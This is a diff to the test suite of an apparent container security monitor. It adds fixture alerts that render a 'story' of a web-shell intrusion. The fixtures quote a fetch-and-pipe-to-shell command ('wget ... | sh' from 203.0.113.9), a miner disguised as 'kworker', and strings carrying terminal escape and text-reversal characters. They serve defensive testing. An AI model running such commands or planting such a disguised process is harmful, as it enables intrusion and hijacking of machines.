@@ -129,6 +129,7 @@ CASES = [  # arguments, status, what standard error holds
     (["events", "--since", "yesterday"], 2, "--since takes a duration"),
     (["events", "--max=0"], 2, "--max takes a number from 1 on"),
     (["events", "show"], 2, "the number of the event is missing"),
+    (["events", "--format", "json"], 2, "jsonl is the format of several events"),
     (["events", "show", "x"], 2, "the number of an event is wanted"),
     (["events", "list"], 2, "there is no `pavise events` `list`"),
     (["off", "--for", "0s"], 2, "--for takes a duration"),
@@ -253,6 +254,22 @@ NOTICE = {"schema": 1, "row": 7, "time": "2026-11-21T20:00:00.000000Z", "last": 
           "severity": "high", "subject": {"kind": "container", "name": HOSTILE, "cgroup": 4711}, "action": "blocked", "count": 14,
           "detail": {"what": "tried to connect to 203.0.113.7 port 3333" + HOSTILE, "evidence": [{"what": "port", "value": HOSTILE}]},
           "next": "pavise allow web net"}
+WEB = {"kind": "container", "name": "shop/web", "cgroup": 4711}
+SHELL = {**NOTICE, "id": "exec.web-shell", "subject": WEB, "severity": "critical", "action": "alerted", "count": 1,
+         "detail": {"what": "had node fetch something by a shell's means: sh -c wget -qO- http://203.0.113.9/x | sh", "evidence": []}}
+ATTACK = {"schema": 1, "row": 8, "time": "2026-11-21T20:00:02.000000Z", "last": "2026-11-21T20:00:02.000000Z", "id": "exec.dropped",
+          "severity": "critical", "subject": WEB, "action": "blocked", "count": 1,
+          "detail": {"what": "tried to run /opt/.x/kworker, which is not part of its image (brought by a shell that a server started)",
+                     "evidence": [{"what": "process", "value": "kworker (pid 512)"}, {"what": "image", "value": "shop:3"},
+                                  {"what": "path", "value": "/opt/.x/kworker"}, {"what": "place", "value": "new file"},
+                                  {"what": "command", "value": "/opt/.x/kworker -o pool.example\x1b[2J"},
+                                  {"what": "chain", "value": "node (411) > sh (510) > kworker\u202e (512)"}, {"what": "user", "value": "1000"},
+                                  {"what": "evidence", "value": "/var/lib/pavise/evidence/20261121T200002Z-exec.dropped-0001"},
+                                  {"what": "taken", "value": "3 processes, 2 programs, 4 sockets, 1 file; 9 files, 812 kB"},
+                                  {"what": "missing", "value": "process 512: memory, sockets, environment"}]},
+          "next": "pavise allow shop/web exec"}
+AFTER = {**NOTICE, "row": 9, "time": "2026-11-21T20:00:30.000000Z", "last": "2026-11-21T20:01:30.000000Z", "subject": WEB,
+         "detail": {"what": "tried to connect to 203.0.113.7 port 3333", "evidence": []}}
 STATUS = {"version": "0.1.0", "mode": "enforce", "since": "2026-11-21T19:00:00.000000Z", "off": False, "off_until": None,
           "workloads": {"containers": 3, "units": 12}, "engines": [{"name": "docker", "state": "connected", "detail": HOSTILE}],
           "counts": {"net_seen": 14, "net_refused": 14, "dns_seen": 2, "dns_refused": 1, "lost": 3},
@@ -327,6 +344,15 @@ def test_shown(tap):
             tap.ok(code == 0 and clean(out) and clean(err), f"{' '.join(args)}: nothing hostile reaches the terminal",
                    f"{code}\n{out!r}\n{err!r}")
             golden(tap, expect(f"shown-{'-'.join(args)}.txt"), out, f"{' '.join(args)} as expected")
+        g.answers.update(event=[ATTACK, ok], events=[SHELL, ATTACK, {**ATTACK, "row": 5, "time": "2026-11-21T19:40:00.000000Z"}, AFTER,
+                                                     {**AFTER, "subject": {"kind": "container", "name": "other"}}, ok])
+        code, out, err = pavise("events", "--config", conf, "show", "8")
+        golden(tap, expect("shown-events-show-8.txt"), out, "events show tells what happened around it, on one screen")
+        tap.ok(clean(out) and len(out.splitlines()) <= 40 and g.asked[-1]["subject"] == "shop/web", "of that workload", g.asked[-1])
+        code, out, err = pavise("events", "--config", conf, "--format", "json", "show", "8")
+        golden(tap, expect("shown-events-show-8.json"), out, "the same as JSON")
+        tap.eq([n["row"] for n in json.loads(out)["story"]], [7, 8, 9], "its steps in their order")
+        g.answers["events"] = [NOTICE, ok]
         code, out, err = pavise("status", "--config", conf, "--format", "json")
         tap.eq((code, json.loads(out)["counts"]["net_refused"]), (0, 14), "status --format json")
         code, out, err = pavise("events", "--config", conf, "--format", "jsonl", "-o", f.path + "/out")
